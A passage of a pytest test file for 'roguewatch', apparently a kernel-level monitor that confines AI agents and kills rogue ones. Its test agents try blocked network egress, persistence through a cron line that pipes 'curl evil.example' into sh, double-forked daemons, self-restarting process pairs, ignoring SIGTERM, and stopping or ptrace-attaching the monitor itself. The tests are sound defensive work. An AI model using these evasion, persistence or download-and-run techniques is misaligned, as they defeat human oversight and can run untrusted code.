"""`roguewatch run` end to end on the real kernel: real agents, real rogue actions, real kills.

Each test runs the CLI as a subprocess (its own collector, evaluator and enforcer: no
roguewatchd may run) with `--json`, so every alert is a JSON line on stderr and the last
stderr line is the summary. The agents are Python snippets (Debian's python3 -S) that say
what they saw as JSON lines on stdout. Network: listeners on 127.0.0.1 (allowed by the
policies here) and on 127.0.0.9 and ::1 (forbidden); a forbidden listener must have accepted
nothing in enforce mode, which is the proof that the refusal happened before any packet.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from roguewatch.runtime.components import COMPONENT_MODULES

from tests.conftest import require_root
from tests.harness import (
    AGENT_PYTHON,
    ALLOW_LOCAL,
    ALLOW_LOCAL_IO_URING,
    DENIED,
    EGRESS_RULE,
    MSG_FASTOPEN,
    OBSERVE_LOCAL,
    OBSERVED,
    PRELUDE,
    PTRACE_ATTACH,
    RUN,
    Agent,
    Result,
    no_service,
)

pytestmark = pytest.mark.kernel


@pytest.fixture(autouse=True)
def _root_and_no_service() -> None:
    require_root()
    no_service()


@dataclass
class Listeners:
    allowed: socket.socket  # TCP 127.0.0.1
    forbidden: socket.socket  # TCP 127.0.0.9
    udp: socket.socket  # UDP 127.0.0.9
    v6: socket.socket  # TCP ::1

    def port(self, name: str) -> int:
        return getattr(self, name).getsockname()[1]

    def fmt(self, code: str) -> str:
        return (
            code.replace("ALLOWED", str(self.port("allowed")))
            .replace("FORBIDDEN", str(self.port("forbidden")))
            .replace("UDPPORT", str(self.port("udp")))
            .replace("V6PORT", str(self.port("v6")))
        )

    @staticmethod
    def accepted(sock: socket.socket) -> int:
        n = 0
        while True:
            try:
                if sock.type == socket.SOCK_STREAM:
                    sock.accept()[0].close()
                else:
                    sock.recvfrom(65536)
            except BlockingIOError:
                return n
            n += 1


@pytest.fixture
def listeners() -> Iterator[Listeners]:
    def tcp(family: int, addr: str) -> socket.socket:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.bind((addr, 0))
        s.listen(16)
        s.setblocking(False)
        return s

    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.9", 0))
    udp.setblocking(False)
    ls = Listeners(
        tcp(socket.AF_INET, "127.0.0.1"), tcp(socket.AF_INET, "127.0.0.9"), udp,
        tcp(socket.AF_INET6, "::1"),
    )  # fmt: skip
    yield ls
    for s in (ls.allowed, ls.forbidden, ls.udp, ls.v6):
        s.close()


def assert_denied(r: Result, addr: str, **event: object) -> dict:
    alert = r.one(EGRESS_RULE, addr=addr, **event)
    assert alert["action"] == "block" and alert["outcome"] == DENIED, alert
    assert "denied" in alert["event"]["flags"], alert
    assert alert["category"] == "egress" and alert["severity"] == "critical"
    return alert


def assert_clean_end(r: Result) -> None:
    assert "survivors now: 0." in r.summary, r.describe()
    assert "Traceback" not in r.stderr, r.describe()


# --- egress: denied in the kernel ---------------------------------------------------------


def test_egress_by_the_root_is_denied_in_kernel_and_allowed_destination_works(
    agent: Agent, listeners: Listeners
) -> None:
    r = agent.run(
        listeners.fmt(
            """
            bad = socket.socket()
            say(forbidden=attempt(lambda: bad.connect(("127.0.0.9", FORBIDDEN))))
            good = socket.socket()
            say(allowed=attempt(lambda: good.connect(("127.0.0.1", ALLOWED))), pid=os.getpid())
            """
        )
    )
    said = r.said()
    assert said["forbidden"] == errno.EPERM and said["allowed"] == 0, r.describe()
    assert r.status == 0, r.describe()
    alert = assert_denied(r, "127.0.0.9", port=listeners.port("forbidden"), proto="tcp")
    assert alert["pid"] == said["pid"] and alert["event"]["type"] == "connect"
    assert not [a for a in r.rule(EGRESS_RULE) if a["event"].get("addr") == "127.0.0.1"]
    assert Listeners.accepted(listeners.forbidden) == 0
    assert Listeners.accepted(listeners.allowed) == 1
    # --alerts FILE gets the same alerts as stderr
    assert {a["id"] for a in r.file_alerts} == {a["id"] for a in r.alerts}
    assert_clean_end(r)


def test_egress_by_a_grandchild_after_double_fork_and_setsid_is_denied_in_kernel(
    agent: Agent, listeners: Listeners
) -> None:
    r = agent.run(
        listeners.fmt(
            """
            rd, wr = os.pipe()
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    s = socket.socket()
                    e = attempt(lambda: s.connect(("127.0.0.9", FORBIDDEN)))
                    os.write(wr, json.dumps({"gc": os.getpid(), "errno": e}).encode())
                    os._exit(0)
                os._exit(0)
            os.close(wr)
            print(os.read(rd, 4096).decode(), flush=True)
            """
        )
    )
    said = r.said()
    assert said["errno"] == errno.EPERM, r.describe()
    alert = assert_denied(r, "127.0.0.9", port=listeners.port("forbidden"))
    assert alert["pid"] == said["gc"]
    assert Listeners.accepted(listeners.forbidden) == 0
    assert_clean_end(r)


def test_egress_by_a_thread_is_denied_in_kernel(agent: Agent, listeners: Listeners) -> None:
    r = agent.run(
        listeners.fmt(
            """
            out = {}
            def worker():
                s = socket.socket()
                out["errno"] = attempt(lambda: s.connect(("127.0.0.9", FORBIDDEN)))
                out["tid"] = threading.get_native_id()
            t = threading.Thread(target=worker)
            t.start()
            t.join()
            say(pid=os.getpid(), **out)
            """
        )
    )
    said = r.said()
    assert said["errno"] == errno.EPERM and said["tid"] != said["pid"], r.describe()
    alert = assert_denied(r, "127.0.0.9", port=listeners.port("forbidden"))
    assert alert["pid"] == said["pid"] and alert["event"]["tid"] == said["tid"]
    assert Listeners.accepted(listeners.forbidden) == 0
    assert_clean_end(r)


@pytest.fixture(scope="module")
def uring_connect(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """tests/uring_connect.c built: a connect through io_uring (no connect(2) syscall)."""
    prog = tmp_path_factory.mktemp("uring") / "uring_connect"
    src = Path(__file__).with_name("uring_connect.c")
    subprocess.run(["gcc", "-O2", "-o", str(prog), str(src)], check=True)
    return prog


def test_egress_through_io_uring_is_denied_in_kernel_and_reported(
    agent: Agent, listeners: Listeners, uring_connect: Path
) -> None:
    """io_uring runs the connect without a connect(2) syscall, so no sys_exit claims the
    denial: the collector publishes the egress program's own record of it."""
    r = agent.run(
        listeners.fmt(
            f"""
            import subprocess
            out = subprocess.run([{str(uring_connect)!r}, "127.0.0.9", "FORBIDDEN"],
                                 capture_output=True, text=True)
            say(res=int(out.stdout), err=out.stderr)
            """
        ),
        policy=ALLOW_LOCAL_IO_URING,
    )
    said = r.said()
    assert said["res"] == -errno.EPERM, r.describe()
    alert = assert_denied(r, "127.0.0.9", port=listeners.port("forbidden"), proto="tcp")
    assert alert["event"]["type"] == "connect" and alert["comm"] == "uring_connect"
    assert Listeners.accepted(listeners.forbidden) == 0
    assert_clean_end(r)


def test_an_io_uring_denial_then_a_connect_denial_are_both_reported(
    agent: Agent, listeners: Listeners, uring_connect: Path
) -> None:
    """A thread's second denial comes before the collector sweeps its first (io_uring's,
    which no syscall exit claims): the first is said then, not overwritten."""
    r = agent.run(
        listeners.fmt(
            f"""
            import subprocess
            out = subprocess.run([{str(uring_connect)!r}, "127.0.0.9", "FORBIDDEN", "again"],
                                 capture_output=True, text=True)
            say(res=[int(x) for x in out.stdout.split()], err=out.stderr)
            """
        ),
        policy=ALLOW_LOCAL_IO_URING,
    )
    said = r.said()
    assert said["res"] == [-errno.EPERM, -errno.EPERM], r.describe()
    denied = [
        a for a in r.rule(EGRESS_RULE)
        if a["event"].get("addr") == "127.0.0.9" and "denied" in a["event"]["flags"]
    ]  # fmt: skip
    # one from the egress program (io_uring: no fd known), one flagged on connect(2)'s record
    assert sorted(a["event"]["fd"] >= 0 for a in denied) == [False, True], denied
    assert_clean_end(r)


def test_egress_over_unconnected_udp_is_denied_in_kernel(
    agent: Agent, listeners: Listeners
) -> None:
    r = agent.run(
        listeners.fmt(
            """
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            say(errno=attempt(lambda: u.sendto(b"secret", ("127.0.0.9", UDPPORT))))
            """
        )
    )
    assert r.said()["errno"] == errno.EPERM, r.describe()
    alert = assert_denied(r, "127.0.0.9", port=listeners.port("udp"), proto="udp")
    assert alert["event"]["type"] == "sendto"
    assert Listeners.accepted(listeners.udp) == 0  # no datagram arrived
    assert_clean_end(r)


def test_egress_over_ipv6_to_loopback_is_denied_in_kernel(
    agent: Agent, listeners: Listeners
) -> None:
    r = agent.run(
        listeners.fmt(
            """
            s6 = socket.socket(socket.AF_INET6)
            say(v6=attempt(lambda: s6.connect(("::1", V6PORT))))
            s4 = socket.socket()
            say(v4=attempt(lambda: s4.connect(("127.0.0.1", ALLOWED))))
            """
        )
    )
    said = r.said()
    assert said["v6"] == errno.EPERM and said["v4"] == 0, r.describe()
    assert_denied(r, "::1", port=listeners.port("v6"))
    assert Listeners.accepted(listeners.v6) == 0
    assert Listeners.accepted(listeners.allowed) == 1
    assert_clean_end(r)


def test_a_dual_stack_socket_is_judged_by_the_ipv4_allowlist(
    agent: Agent, listeners: Listeners
) -> None:
    """An IPv6 socket connecting to an IPv4-mapped address reaches that IPv4 host: the allowed
    one works (a dual-stack client is no broken workload), the forbidden one is refused."""
    r = agent.run(
        listeners.fmt(
            """
            a = socket.socket(socket.AF_INET6)
            say(allowed=attempt(lambda: a.connect(("::ffff:127.0.0.1", ALLOWED))))
            f = socket.socket(socket.AF_INET6)
            say(forbidden=attempt(lambda: f.connect(("::ffff:127.0.0.9", FORBIDDEN))))
            """
        )
    )
    said = r.said()
    assert said["allowed"] == 0 and said["forbidden"] == errno.EPERM, r.describe()
    assert Listeners.accepted(listeners.allowed) == 1
    assert Listeners.accepted(listeners.forbidden) == 0
    denied = [a for a in r.rule(EGRESS_RULE) if "denied" in a["event"]["flags"]]
    assert len(denied) == 1 and denied[0]["event"]["addr"].endswith("127.0.0.9"), r.describe()
    assert not [a for a in r.rule(EGRESS_RULE) if a["event"]["addr"].endswith("127.0.0.1")]
    assert_clean_end(r)


def test_egress_by_tcp_fast_open_is_denied_in_kernel(agent: Agent, listeners: Listeners) -> None:
    r = agent.run(
        listeners.fmt(
            f"""
            s = socket.socket()
            say(errno=attempt(lambda: s.sendto(b"GET /", {MSG_FASTOPEN},
                                               ("127.0.0.9", FORBIDDEN))))
            """
        )
    )
    assert r.said()["errno"] == errno.EPERM, r.describe()
    assert_denied(r, "127.0.0.9", port=listeners.port("forbidden"))
    assert Listeners.accepted(listeners.forbidden) == 0
    assert_clean_end(r)


# --- observe mode -------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["--observe", "mode: observe"])
def test_observe_mode_lets_egress_and_persistence_complete_and_says_what_it_would_do(
    agent: Agent, listeners: Listeners, how: str
) -> None:
    cron = f"/etc/cron.d/roguewatch-test-{os.getpid()}-observe"
    os.makedirs("/etc/cron.d", exist_ok=True)
    policy = ALLOW_LOCAL if how == "--observe" else OBSERVE_LOCAL
    args = ("--observe",) if how == "--observe" else ()
    try:
        r = agent.run(
            listeners.fmt(
                f"""
                s = socket.socket()
                say(errno=attempt(lambda: s.connect(("127.0.0.9", FORBIDDEN))))
                with open({cron!r}, "w") as f:
                    f.write("* * * * * root /bin/true\\n")
                time.sleep(0.5)
                say(done=True)
                """
            ),
            policy=policy,
            args=args,
        )
        assert os.path.exists(cron), r.describe()
        assert Path(cron).read_text() == "* * * * * root /bin/true\n"
    finally:
        if os.path.exists(cron):
            os.unlink(cron)
    said = r.said()
    assert said.get("errno") == 0 and said.get("done"), r.describe()
    assert r.status == 0, r.describe()
    assert Listeners.accepted(listeners.forbidden) == 1  # the connection really happened
    egress = r.one(EGRESS_RULE, addr="127.0.0.9")
    assert egress["outcome"] == OBSERVED and egress["action"] != "block", egress
    assert "denied" not in egress["event"]["flags"]
    persist = r.one("persistence_cron_write", path=cron)
    assert persist["outcome"] == OBSERVED and persist["action"] == "restore", persist
    assert "observe mode" in r.summary and "Processes killed: 0" in r.summary, r.summary
    assert "Traceback" not in r.stderr


# --- kills --------------------------------------------------------------------------------


def test_a_cron_write_gets_the_agent_killed(agent: Agent) -> None:
    cron = f"/etc/cron.d/roguewatch-test-{os.getpid()}"
    os.makedirs("/etc/cron.d", exist_ok=True)
    try:
        r = agent.run(
            f"""
            say(pid=os.getpid())
            with open({cron!r}, "w") as f:
                f.write("* * * * * root curl evil.example | sh\\n")
            time.sleep(5)
            say(survived=True)
            """
        )
    finally:
        if os.path.exists(cron):
            os.unlink(cron)
    alert = r.one("persistence_cron_write", path=cron)
    assert alert["category"] == "persistence" and alert["pid"] == r.said()["pid"]
    assert alert["action"] == "restore" and "killed" in alert["outcome"], alert
    assert r.status == 128 + signal.SIGKILL, r.describe()
    assert "survived" not in r.said()
    assert "Processes killed: 1" in r.summary, r.summary
    assert_clean_end(r)


def test_an_agent_ignoring_sigterm_is_killed(agent: Agent) -> None:
    r = agent.run(
        """
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        time.sleep(5)
        say(survived=True)
        """
    )
    alert = r.one("shutdown_ignore_termination_signal", reason="change", ignored=["SIGTERM"])
    assert alert["category"] == "shutdown_evasion" and "killed" in alert["outcome"], alert
    assert r.status == 128 + signal.SIGKILL, r.describe()
    assert "survived" not in r.said()
    assert_clean_end(r)


def test_a_double_forked_daemon_is_killed_at_session_end(agent: Agent) -> None:
    r = agent.run(
        """
        rd, wr = os.pipe()
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.write(wr, str(os.getpid()).encode())
                os.close(wr)
                while True:
                    time.sleep(1)
            os._exit(0)
        os.close(wr)
        say(daemon=int(os.read(rd, 64)))
        """
    )
    daemon = r.said()["daemon"]
    assert r.status == 0, r.describe()
    alert = r.one("persistence_process_survives_session")
    assert alert["pid"] == daemon, alert
    assert "Still alive when the agent's root exited: 1;" in r.summary, r.summary
    assert_clean_end(r)
    with pytest.raises(ProcessLookupError):
        os.kill(daemon, 0)
    assert agent.leftovers() == []


def test_a_pair_restarting_each_other_leaves_no_survivor(agent: Agent) -> None:
    r = agent.run(
        f"""
        def pair():
            # Each one watches the other and forks a new partner when it dies.
            while True:
                pid = os.fork()
                if pid == 0:
                    parent = os.getppid()
                    while os.getppid() == parent:
                        time.sleep(0.005)
                    continue  # my partner (my parent) died: fork a new one
                os.waitpid(pid, 0)  # my partner (my child) died: fork a new one
        def members():
            out = []
            for d in os.listdir("/proc"):
                if d.isdigit() and int(d) != os.getpid():
                    try:
                        cmd = open(f"/proc/{{d}}/cmdline", "rb").read()
                    except OSError:
                        continue
                    # (the launcher's command line has the token too: not one of the pair)
                    if cmd.startswith(b"{AGENT_PYTHON}") and b"{agent.token}" in cmd:
                        out.append(int(d))
            return sorted(out)
        if os.fork() == 0:
            os.setsid()
            pair()
        time.sleep(0.3)
        first = members()
        for p in first:
            os.kill(p, signal.SIGKILL)  # kill both at once would end them: kill one
            break
        time.sleep(0.3)
        say(first=first, after=members())
        """
    )
    said = r.said()
    assert len(said["first"]) == 2 and len(said["after"]) == 2, r.describe()
    assert said["after"] != said["first"], "the pair did not restart its killed member"
    assert r.status == 0, r.describe()
    assert r.rule("persistence_process_survives_session"), r.describe()
    assert_clean_end(r)
    time.sleep(0.2)
    assert agent.leftovers() == []


CLI = [sys.executable, "-m", "roguewatch.cli.main"]


def test_roguewatch_kill_ends_a_session_with_a_daemon_and_a_restarting_pair(agent: Agent) -> None:
    """The operator's verified shutdown of a `run` session (no roguewatchd: the launcher's own
    collector answers `sessions` and `kill`): every process of the session shrugs SIGTERM
    off, so what ends it is the kill after the grace; nothing survives."""
    name = f"rwkill-{agent.token[-12:]}"
    body = (
        PRELUDE
        + textwrap.dedent(
            f"""
        # SIGTERM caught and ignored (a handler: SIG_IGN itself is a rule's kill)
        signal.signal(signal.SIGTERM, lambda *_: None)
        def pair():
            while True:
                pid = os.fork()
                if pid == 0:
                    parent = os.getppid()
                    while os.getppid() == parent:
                        time.sleep(0.005)
                    continue
                os.waitpid(pid, 0)
        def members():
            out = []
            for d in os.listdir("/proc"):
                if d.isdigit():
                    try:
                        cmd = open(f"/proc/{{d}}/cmdline", "rb").read()
                    except OSError:
                        continue
                    if cmd.startswith(b"{AGENT_PYTHON}") and b"{agent.token}" in cmd:
                        out.append(int(d))
            return sorted(out)
        rd, wr = os.pipe()
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.write(wr, str(os.getpid()).encode())
                os.close(wr)
                while True:
                    time.sleep(1)
            os._exit(0)
        os.close(wr)
        daemon = int(os.read(rd, 64))
        if os.fork() == 0:
            os.setsid()
            pair()
        time.sleep(0.3)
        say(root=os.getpid(), daemon=daemon, procs=members(), ready=True)
        while True:
            time.sleep(1)
        """
        )
        + f"\n# {agent.token}\n"
    )
    state: dict = {}

    def operator(proc: subprocess.Popen) -> None:
        if "kill" in state or '"ready": true' not in (agent.tmp / "stdout").read_text():
            return
        listed = subprocess.run([*CLI, "sessions", "--json"], capture_output=True, text=True,
                                timeout=60)  # fmt: skip
        state["sessions"] = listed
        mine = [json.loads(x) for x in listed.stdout.splitlines() if x.startswith("{")]
        mine = [x for x in mine if x["name"] == name]
        state["listed"] = mine
        key = mine[0]["session"] if mine else name
        state["kill"] = subprocess.run([*CLI, "kill", key, "--grace", "1"],
                                       capture_output=True, text=True, timeout=60)  # fmt: skip

    r = agent.run_argv([AGENT_PYTHON, "-S", "-c", body], args=("--name", name),
                       during=operator, timeout=90)  # fmt: skip
    said = r.said()
    assert "kill" in state, r.describe()
    listed, kill = state["sessions"], state["kill"]
    assert listed.returncode == 0 and len(state["listed"]) == 1, (listed.stdout, listed.stderr)
    session = state["listed"][0]
    assert session["cgroup"] and said["root"] == session["root"], session
    # root, the daemon and the pair (the daemon's first parent has exited)
    assert len(said["procs"]) >= 3 and {said["root"], said["daemon"]} <= set(session["pids"])
    assert kill.returncode == 0, (kill.stdout, kill.stderr)
    assert kill.stdout.strip().endswith("0 survivors"), kill.stdout
    assert "Traceback" not in kill.stderr, kill.stderr
    # SIGTERM was shrugged off: the root ended by the kill after the grace
    assert r.status == 128 + signal.SIGKILL, r.describe()
    assert_clean_end(r)
    time.sleep(0.2)
    assert agent.leftovers() == []


def test_the_monitors_processes_take_nothing_from_the_environment_they_are_started_in(
    agent: Agent, tmp_path: Path
) -> None:
    """`run` is started from the operator's shell, in the agent's workspace, with the agent's
    variables: a PYTHONPATH with a sitecustomize there must not run code in the collector or
    the evaluator, and their environment must not carry the agent's variables."""
    shadow = tmp_path / "shadow"
    shadow.mkdir()
    ran = tmp_path / "sitecustomize-ran"
    (shadow / "sitecustomize.py").write_text(
        f"with open({str(ran)!r}, 'a') as f:\n"
        "    f.write(open('/proc/self/cmdline', 'rb').read().replace(b'\\0', b' ').decode())\n"
        "    f.write('\\n')\n"
    )
    environ: dict[str, bytes] = {}

    def watch(proc: subprocess.Popen) -> None:
        for name, module in COMPONENT_MODULES.items():
            for c in _children(proc.pid, module):
                try:
                    environ[name] = Path(f"/proc/{c}/environ").read_bytes()
                except OSError:
                    pass

    r = agent.run(
        "time.sleep(1.5)\nsay(done=True)\n",
        cwd=tmp_path,
        env={"PYTHONPATH": str(shadow), "RWTEST_AGENT_VAR": agent.token},
        during=watch,
    )
    assert r.said().get("done") and r.status == 0, r.describe()
    assert {"collector", "evaluator"} <= environ.keys(), environ.keys()
    for name, env in environ.items():
        assert agent.token.encode() not in env, f"the {name} carries the agent's variable"
        assert b"PYTHONPATH=" not in env, f"the {name} has the caller's PYTHONPATH"
    runs = ran.read_text().splitlines() if ran.exists() else []
    assert any("roguewatch.cli.main" in x for x in runs), "the shadow was not on the path"
    assert not [x for x in runs if any(m in x for m in COMPONENT_MODULES.values())], runs


# --- attacks on the monitor ---------------------------------------------------------------

FIND_COLLECTOR = """
def collector():
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            cmd = open(f"/proc/{d}/cmdline", "rb").read()
            ppid = int(open(f"/proc/{d}/stat").read().rsplit(")", 1)[1].split()[1])
        except OSError:
            continue
        if b"roguewatch.runtime.collectord" in cmd and ppid == os.getppid():
            return int(d)
c = collector()
say(collector=c)
"""


def _children(pid: int, marker: str) -> list[int]:
    out = []
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            stat = Path(f"/proc/{d}/stat").read_text()
            cmd = Path(f"/proc/{d}/cmdline").read_bytes()
        except OSError:
            continue
        if int(stat.rsplit(")", 1)[1].split()[1]) == pid and marker.encode() in cmd:
            out.append(int(d))
    return out


def _state(pid: int) -> str | None:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return None


@pytest.mark.parametrize(
    "attack",
    [
        "os.kill(c, signal.SIGTERM)",
        "os.kill(c, signal.SIGSTOP)",
        "ctypes.CDLL(None, use_errno=True).ptrace(PTRACE_ATTACH, c, 0, 0)",
    ],
    ids=["sigterm", "sigstop", "ptrace"],
)
def test_an_agent_attacking_the_monitor_is_killed_and_the_monitor_keeps_running(
    agent: Agent, attack: str
) -> None:
    seen: dict[int, set[str]] = {}

    def watch(proc: subprocess.Popen) -> None:
        for c in _children(proc.pid, COMPONENT_MODULES["collector"]):
            state = _state(c)
            if state is not None:
                seen.setdefault(c, set()).add(state)

    r = agent.run(
        FIND_COLLECTOR
        + f"""
PTRACE_ATTACH = {PTRACE_ATTACH}
libc = ctypes.CDLL(None, use_errno=True)
try:
    rc = {attack}
    say(result=rc, errno=ctypes.get_errno())
except OSError as e:
    say(result=-1, errno=e.errno)
time.sleep(3)
say(survived=True)
""",
        during=watch,
    )
    said = r.said()
    assert said.get("collector"), r.describe()
    assert said["collector"] in seen, f"the test never saw the collector: {seen}"
    assert "T" not in seen[said["collector"]] and "t" not in seen[said["collector"]], seen
    # Landlock refuses the call (EPERM) if the in-kernel kill did not end the agent first.
    if "result" in said:
        assert said["result"] == -1 and said["errno"] == errno.EPERM, r.describe()
    assert "survived" not in said, r.describe()
    assert r.status == 128 + signal.SIGKILL, r.describe()
    alert = r.one("shutdown_signal_to_monitor")
    assert alert["category"] == "shutdown_evasion" and "guard" in alert["event"]["flags"]
    assert r.summary.startswith("roguewatch: session ended"), r.describe()
    assert_clean_end(r)


@pytest.mark.parametrize("target", ["launcher", "evaluator"])
def test_an_agent_signalling_another_monitor_process_is_killed(agent: Agent, target: str) -> None:
    find = "os.getppid()" if target == "launcher" else "find()"
    r = agent.run(
        f"""
        def find():
            for d in os.listdir("/proc"):
                if not d.isdigit():
                    continue
                try:
                    cmd = open(f"/proc/{{d}}/cmdline", "rb").read()
                    stat = open(f"/proc/{{d}}/stat").read()
                except OSError:
                    continue
                if (b"roguewatch.runtime.evaluatord" in cmd
                        and int(stat.rsplit(")", 1)[1].split()[1]) == os.getppid()):
                    return int(d)
        t = {find}
        say(target=t)
        say(errno=attempt(lambda: os.kill(t, signal.SIGSTOP)))
        time.sleep(3)
        say(survived=True)
        """
    )
    said = r.said()
    assert said.get("target"), r.describe()
    assert said.get("errno", errno.EPERM) == errno.EPERM  # Landlock holds in any case
    assert "Traceback" not in r.stderr and r.summary.startswith("roguewatch: session ended")
    assert "survived" not in said and r.status == 128 + signal.SIGKILL, r.describe()
    r.one("shutdown_signal_to_monitor")


@pytest.mark.parametrize(
    "target",
    [
        "roguewatch.runtime.collectord",
        "roguewatch.runtime.evaluatord",
        "roguewatch.cli.main",
    ],
    ids=["collector", "evaluator", "launcher"],
)
def test_an_agent_signalling_a_thread_of_the_monitor_is_killed(agent: Agent, target: str) -> None:
    r = agent.run(
        f"""
        def find():
            if {target!r} == "roguewatch.cli.main":
                return os.getppid()
            for d in os.listdir("/proc"):
                if not d.isdigit():
                    continue
                try:
                    cmd = open(f"/proc/{{d}}/cmdline", "rb").read()
                    stat = open(f"/proc/{{d}}/stat").read()
                except OSError:
                    continue
                if {target.encode()!r} in cmd and int(stat.rsplit(")", 1)[1].split()[1]) == (
                    os.getppid()
                ):
                    return int(d)
        pid = find()
        tids = sorted(int(t) for t in os.listdir(f"/proc/{{pid}}/task") if int(t) != pid)
        say(target=pid, tids=tids)
        libc = ctypes.CDLL(None, use_errno=True)
        for t in tids:
            rc = libc.syscall(200, t, signal.SIGSTOP)  # tkill
            say(**{{str(t): ctypes.get_errno() if rc else 0}})
        time.sleep(3)
        say(survived=True)
        """
    )
    said = r.said()
    assert said.get("tids"), r.describe()
    assert all(said.get(str(t), errno.EPERM) == errno.EPERM for t in said["tids"]), said
    assert r.summary.startswith("roguewatch: session ended"), r.describe()
    assert "survived" not in said and r.status == 128 + signal.SIGKILL, r.describe()
    assert r.one("shutdown_signal_to_monitor")["category"] == "shutdown_evasion"


# --- the launcher's start-up ---------------------------------------------------------------


def test_the_launchers_control_socket_agrees_and_session_ids_are_below_adopted() -> None:
    """run avoids importing the bus before it starts the collector: its spelling of the
    service's control socket must agree; the session ids it draws stay below the adopted
    ranges."""
    from roguewatch.core.identity import new_session_id
    from roguewatch.probes import layout
    from roguewatch.runtime import run
    from roguewatch.stream import bus

    assert f"ipc://{run.SERVICE_CONTROL_SOCKET}" == bus.CONTROL_ENDPOINT
    ids = [new_session_id() for _ in range(1000)]
    assert all(0 < i < 1 << 61 for i in ids)
    assert max(ids).bit_length() == 61  # (p = 1 - 2^-1000)
    assert layout.ADOPTED_PROCFS_BASE >= 1 << 61


def test_run_starts_without_importing_the_other_sub_commands() -> None:
    code = ("import sys\nfrom roguewatch.cli import main as cli\n"
            "cli.build_parser(only='run').parse_args(['run', '--', 'true'])\n"
            "print(sorted(m for m in sys.modules if m.startswith('roguewatch.')))")  # fmt: skip
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    loaded = p.stdout
    assert p.returncode == 0, p.stderr
    assert "'roguewatch.cli.run'" in loaded, loaded  # (the names below are current)
    for heavy in ("detect.ruleset", "detect.condition", "cli.replay", "cli.rules",
                  "stream.collector", "detect.evaluator", "sensors.bpf",
                  "respond.baseline"):  # fmt: skip
        assert f"'roguewatch.{heavy}'" not in loaded, loaded


def test_stale_private_run_directories_are_swept_and_live_ones_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from roguewatch.runtime import launcher

    monkeypatch.setattr(launcher, "PRIVATE_RUN", str(tmp_path))
    old = time.time() - 3600
    stale, live, young, mine = (tmp_path / f"roguewatch-{n}" for n in ("a", "b", "c", "d"))
    for d in (stale, live, young, mine):
        d.mkdir()
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(live / "control.sock"))
    listener.listen(1)
    (stale / "control.sock").touch()  # a socket file nobody listens on
    for d in (stale, live, mine):
        os.utime(d, (old, old))
    try:
        assert sorted(launcher.private_control_endpoints()) == [
            f"ipc://{stale}/control.sock", f"ipc://{live}/control.sock"
        ]  # fmt: skip
        launcher._sweep_stale_run_dirs(keep=str(mine))
        assert sorted(os.listdir(tmp_path)) == ["roguewatch-b", "roguewatch-c", "roguewatch-d"]
    finally:
        listener.close()


def test_the_monitor_runs_ahead_of_the_agent(agent: Agent) -> None:
    """The private collector and evaluator run at nice -10, each a session (and autogroup) of
    its own; the agent keeps the launcher's priority."""
    found: dict[str, int] = {}

    def watch(proc: subprocess.Popen) -> None:
        for name, module in COMPONENT_MODULES.items():
            for c in _children(proc.pid, module):
                found[name] = c
                found[f"{name}_nice"] = os.getpriority(os.PRIO_PROCESS, c)
                found[f"{name}_sid"] = os.getsid(c)

    r = agent.run("say(nice=os.getpriority(os.PRIO_PROCESS, 0))\ntime.sleep(1)", during=watch)
    assert r.status == 0, r.describe()
    for name in ("collector", "evaluator"):
        assert found.get(f"{name}_nice") == -10, found
        assert found[f"{name}_sid"] == found[name], found
    assert r.said()["nice"] == os.getpriority(os.PRIO_PROCESS, 0)


# --- the launcher's own errors ------------------------------------------------------------


def test_a_bad_policy_file_is_a_clear_error(agent: Agent) -> None:
    r = agent.run("say(ran=True)", policy="egress:\n  allow: [not-a-cidr]\n")
    assert r.status == 2, r.describe()
    assert str(agent.tmp / "policy.yaml") in r.stderr and "not-a-cidr" in r.stderr
    assert "Traceback" not in r.stderr and "ran" not in r.said()


def test_not_root_is_a_clear_error(tmp_path: Path) -> None:
    cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
           *RUN, "--", "/bin/true"]  # fmt: skip
    p = subprocess.run(cmd, capture_output=True, text=True, timeout=60, cwd="/")
    assert p.returncode == 2, p
    assert "root" in p.stderr and "Traceback" not in p.stderr, p.stderr


def test_user_option_runs_the_agent_unprivileged(agent: Agent) -> None:
    import grp
    import pwd

    nobody = pwd.getpwnam("nobody")
    groups = sorted({nobody.pw_gid} | {g.gr_gid for g in grp.getgrall() if "nobody" in g.gr_mem})
    r = agent.run("say(uid=os.getuid(), euid=os.geteuid(), gid=os.getgid(), egid=os.getegid(),"
                  " groups=sorted(os.getgroups()), home=os.environ['HOME'])",
                  args=("--user", "nobody"))  # fmt: skip
    assert r.said() == {
        "uid": nobody.pw_uid, "euid": nobody.pw_uid, "gid": nobody.pw_gid,
        "egid": nobody.pw_gid, "groups": groups, "home": nobody.pw_dir,
    }, r.describe()  # fmt: skip
    assert r.status == 0, r.describe()
    assert_clean_end(r)


# --- the agent's filesystem: Landlock ----------------------------------------------------

# What the agent tries: the workspace, /tmp, cron (rules' business, not Landlock's), every
# directory of the monitor's own, the cgroup filesystem and bpffs. "open_w" opens an existing
# file for writing (nothing is written: a cgroup file acts only on data), "create" makes a new
# file, "mkdir" a directory; each says the errno (0: it worked).
FS_PROBE = """
def cg2():
    for line in open("/proc/self/mountinfo"):
        left, _, right = line.partition(" - ")
        if right.split()[0] == "cgroup2":
            return left.split()[4]
def open_w(p):
    os.close(os.open(p, os.O_WRONLY))
def create(p):
    os.close(os.open(p, os.O_WRONLY | os.O_CREAT, 0o600))
out = {}
def check(name, fn, path):
